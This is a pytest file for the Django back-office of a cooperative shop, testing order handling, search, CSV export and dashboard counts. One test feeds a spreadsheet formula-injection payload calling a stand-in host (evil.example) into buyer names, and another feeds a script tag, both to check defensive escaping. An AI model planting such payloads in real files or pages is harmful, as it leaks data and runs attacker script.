"""Officers find orders, move them along, and take them away as a table."""

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from accounts.models import User
from backoffice import exporting
from backoffice.tests.conftest import World, make_channel_order, make_paid_order
from inventory.models import Stock
from members.models import Member
from orders.models import Order, OrderEvent, OrderState, Parcel
from tenants.models import Cooperative
from tests import make
from tests.browsing import Browser


@pytest.fixture
def petugas(kopi: Cooperative) -> Browser:
    return Browser(user=make.officer(role="petugas", email="dewi@kopi.example"))


def messages_of(browser: Browser, path: str) -> list[str]:
    return [str(message) for message in browser.get(path).context["messages"]]


def codes(answer: object) -> list[str]:
    return [order.code for order in answer.context["page"]]


def test_packing_and_shipping_moves_the_order_and_its_parcel(petugas: Browser, seller: Member) -> None:
    order = make_paid_order(seller)
    petugas.post(f"/kelola/pesanan/{order.code}/kemas/")
    parcel = Parcel.objects.get(order=order)
    assert parcel.packed_at is not None
    answer = petugas.post(f"/kelola/pesanan/{order.code}/kirim/", {"courier": "JNE", "tracking_number": " JT0012 "})
    assert (answer.status_code, answer["Location"]) == (302, f"/kelola/pesanan/{order.code}/")
    parcel.refresh_from_db()
    order.refresh_from_db()
    assert (order.state, parcel.courier, parcel.tracking_number) == ("shipped", "JNE", "JT0012")
    last = OrderEvent.objects.filter(order=order).order_by("-pk")[0]
    assert (last.state, last.actor, last.detail) == ("shipped", "Petugas", "JNE JT0012")
    petugas.post(f"/kelola/pesanan/{order.code}/sampai/")
    petugas.post(f"/kelola/pesanan/{order.code}/selesai/")
    order.refresh_from_db()
    assert order.state == "completed"


def test_a_step_that_comes_too_late_says_why_and_changes_nothing(petugas: Browser, seller: Member) -> None:
    order = make_paid_order(seller, state=OrderState.SHIPPED)
    events = OrderEvent.objects.count()
    for step in ("kemas", "batal"):
        petugas.post(f"/kelola/pesanan/{order.code}/{step}/", {"reason": "salah pesan"})
        (told,) = messages_of(petugas, f"/kelola/pesanan/{order.code}/")
        assert told == "Tidak bisa: pesanan ini sudah berstatus “dikirim”."
    order.refresh_from_db()
    assert (order.state, OrderEvent.objects.count()) == ("shipped", events)


def test_shipping_without_a_tracking_number_is_refused_on_the_page(petugas: Browser, seller: Member) -> None:
    order = make_paid_order(seller)
    answer = petugas.post(f"/kelola/pesanan/{order.code}/kirim/", {"courier": "JNE"})
    assert answer.status_code == 422
    assert "tracking_number" in answer.context["ship_form"].errors
    order.refresh_from_db()
    assert order.state == "paid"


def test_cancelling_keeps_the_reason_and_puts_the_goods_back(petugas: Browser, world: World) -> None:
    assert Stock.objects.get(pk=world.variant.pk).reserved == 2
    assert petugas.post(f"/kelola/pesanan/{world.order.code}/batal/", {"reason": ""}).status_code == 422
    petugas.post(f"/kelola/pesanan/{world.order.code}/batal/", {"reason": "pembeli minta batal"})
    assert Stock.objects.get(pk=world.variant.pk).available == 20
    event = OrderEvent.objects.get(order=world.order, state="cancelled")
    assert (event.actor, event.detail) == ("Petugas", "pembeli minta batal")


def test_an_order_of_a_marketplace_is_sent_and_cancelled_there(petugas: Browser, seller: Member) -> None:
    order = make_channel_order(seller, external_id="2311SHP")
    assert petugas.post(f"/kelola/pesanan/{order.code}/batal/", {"reason": "habis"}).status_code == 404
    sent = {"courier": "JNE", "tracking_number": "1"}
    assert petugas.post(f"/kelola/pesanan/{order.code}/kirim/", sent).status_code == 404
    order.refresh_from_db()
    assert order.state == "awaiting_payment"


def test_a_settled_case_leaves_the_list_and_stays_in_the_history(petugas: Browser, world: World) -> None:
    assert codes(petugas.get("/kelola/pesanan/?problem=any")) == [world.order.code]
    petugas.post(f"/kelola/pesanan/{world.order.code}/beres/", {"what_was_done": "stok ditambah"})
    assert codes(petugas.get("/kelola/pesanan/?problem=any")) == []
    event = OrderEvent.objects.get(order=world.order, kind="solved")
    assert (event.actor, event.detail) == ("Petugas", "oversold: stok ditambah")


def test_orders_are_found_by_state_channel_and_words(petugas: Browser, seller: Member) -> None:
    paid = make_paid_order(seller)
    waiting = make.order()
    Order.objects.filter(pk=waiting.pk).update(buyer_name="Agus Salim", buyer_phone="+6281399887766")
    abroad = make_channel_order(seller, external_id="231123ABC")
    newest_first = [abroad.code, waiting.code, paid.code]
    expected = {
        "": newest_first,
        "?state=paid": [paid.code],
        "?channel=shopee": [abroad.code],
        "?q=agus": [waiting.code],
        "?q=0813-9988-7766": [waiting.code],
        f"?q={paid.code.lower()}": [paid.code],
        "?q=231123ABC": [abroad.code],
        "?problem=any": [],
        "?state=nonsense": newest_first,
        "?halaman=99": newest_first,
    }
    assert {query: codes(petugas.get(f"/kelola/pesanan/{query}")) for query in expected} == expected


def test_the_list_costs_the_same_whatever_its_length(petugas: Browser, seller: Member) -> None:
    make_paid_order(seller)
    few = queries(petugas, "/kelola/pesanan/")
    for _ in range(29):
        make_paid_order(seller)
    many = queries(petugas, "/kelola/pesanan/")
    assert len(codes(petugas.get("/kelola/pesanan/"))) == 25
    assert few == many <= 8


def test_an_order_page_costs_the_same_whatever_it_holds(petugas: Browser, seller: Member) -> None:
    small = make_paid_order(seller)
    cart = {make.variant(title=f"Teh {n}", seller=make.member(name=f"Anggota {n}")).pk: 1 for n in range(8)}
    large = make.order(cart=cart)
    assert queries(petugas, f"/kelola/pesanan/{small.code}/") == queries(petugas, f"/kelola/pesanan/{large.code}/")


def queries(browser: Browser, path: str) -> int:
    with CaptureQueriesContext(connection) as seen:
        assert browser.get(path).status_code == 200
    return len(seen)


def exported(browser: Browser, query: str = "") -> list[dict[str, str]]:
    answer = browser.get(f"/kelola/pesanan/ekspor.csv{query}")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))


def test_the_export_holds_the_narrowed_list(petugas: Browser, seller: Member) -> None:
    paid = make_paid_order(seller)
    make.order()
    (row,) = exported(petugas, "?state=paid")
    assert (row["Kode"], row["Status"], row["Total"], row["Barang"]) == (paid.code, "Dibayar", "85000", "1")
    assert (row["Dipesan"], row["Dibayar"]) == ("2026-11-23 14:00", "2026-11-23 14:00")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", " ="])
def test_text_that_a_spreadsheet_would_run_is_only_text(petugas: Browser, seller: Member, start: str) -> None:
    evil = f'{start}HYPERLINK("http://evil.example?x="&A1,"klik")'
    make_paid_order(seller, buyer_name=evil)
    (row,) = exported(petugas)
    assert row["Pembeli"] == f"'{evil}"


def test_numbers_and_plain_text_of_an_export_stay_as_they_are() -> None:
    answer = exporting.csv_response(filename="x.csv", head=["a"], rows=[[-5, "Jl. A-1", None, "Kopi, manis"]])
    assert answer.content.decode("utf-8-sig") == 'a\r\n-5,Jl. A-1,,"Kopi, manis"\r\n'
    assert answer["Content-Disposition"] == 'attachment; filename="x.csv"'


def test_the_home_page_counts_what_waits(world: World, seller: Member) -> None:
    for state in (OrderState.PAID, OrderState.PAID, OrderState.PACKED, OrderState.SHIPPED):
        make_paid_order(seller, state=state)
    pengurus = Browser(user=make.officer())
    answer = pengurus.get("/kelola/")
    assert [(task.name, task.count) for task in answer.context["tasks"]] == [
        ("Perlu dikemas", 2),
        ("Perlu dikirim", 1),
        ("Pesanan bermasalah", 1),
        ("Pertanyaan belum dijawab", 1),
        ("Transfer perlu dicek", 1),
        ("Produk menunggu persetujuan", 1),
        ("Dokumen perlu diperiksa", 0),
        ("Ulasan perlu diperiksa", 1),
        ("Produk ditolak kanal", 1),
    ]
    for task in answer.context["tasks"]:
        assert len(pengurus.get(task.link).context["page"]) == task.count
    assert queries(pengurus, "/kelola/") == 15


def test_petugas_see_no_money_on_the_home_page(world: World, petugas: Browser) -> None:
    names = [str(task.name) for task in petugas.get("/kelola/").context["tasks"]]
    assert "Transfer perlu dicek" not in names
    assert len(names) == 8


def test_a_lost_channel_is_on_the_home_page(world: World, petugas: Browser) -> None:
    assert petugas.get("/kelola/").context["lost"].count() == 0
    world.connection.state = "lost"
    world.connection.save()
    assert "Kopi Gayo Official" in petugas.get("/kelola/").content.decode()


def test_the_page_of_an_order_shows_frozen_shares_and_history(petugas: Browser, world: World) -> None:
    answer = petugas.get(f"/kelola/pesanan/{world.order.code}/")
    text = answer.content.decode()
    assert "Rp190.000" in text
    assert "Ibu Rahma" in text
    assert [event.title for event in answer.context["events"]] == ["Menunggu pembayaran"]
    assert answer["Cache-Control"].startswith("max-age=0, no-cache, no-store")
    assert timezone.is_aware(world.order.placed_at)


def test_a_name_is_shown_and_never_run(world: World, petugas: Browser) -> None:
    Order.objects.update(buyer_name="<script>alert(1)</script>")
    User.objects.update(name="<b>Dewi</b>")
    for path in ("/kelola/", "/kelola/pesanan/", f"/kelola/pesanan/{world.order.code}/"):
        text = petugas.get(path).content.decode()
        assert "<script>alert" not in text
        assert "<b>Dewi" not in text
